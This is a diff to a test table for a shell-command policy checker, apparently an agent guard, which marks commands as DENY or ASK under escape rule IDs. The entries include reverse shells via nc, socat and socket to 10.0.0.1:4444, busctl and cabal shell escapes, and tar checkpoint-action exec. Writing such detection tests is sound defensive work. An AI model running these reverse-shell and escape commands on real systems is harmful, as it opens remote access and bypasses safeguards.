@@ -30,7 +30,9 @@ def decide(line: str) -> tuple[Outcome, set[str]]:
     ("busctl --address=unixexec:path=/bin/sh,argv1=-c", ASK, "CG-ESC-001"),
     ("nc -e /bin/sh 10.0.0.1 4444", DENY, "CG-ESC-001"),
     ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty", DENY, "CG-ESC-001"),
-    ("cabal exec -- /bin/sh -p", DENY, None),
+    ("cabal exec -- /bin/sh -p", DENY, "CG-WRAP-005"),
+    ("socket -svp '/bin/sh -p -i' 12345", DENY, "CG-ESC-001"),
+    ("mytool --shell /bin/bash -p 8080", ASK, "CG-ESC-001"),
     # options whose value is a command
     ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id", ASK, "CG-ESC-002"),
     ("certbot renew --pre-hook 'touch /tmp/x'", ASK, "CG-ESC-002"),
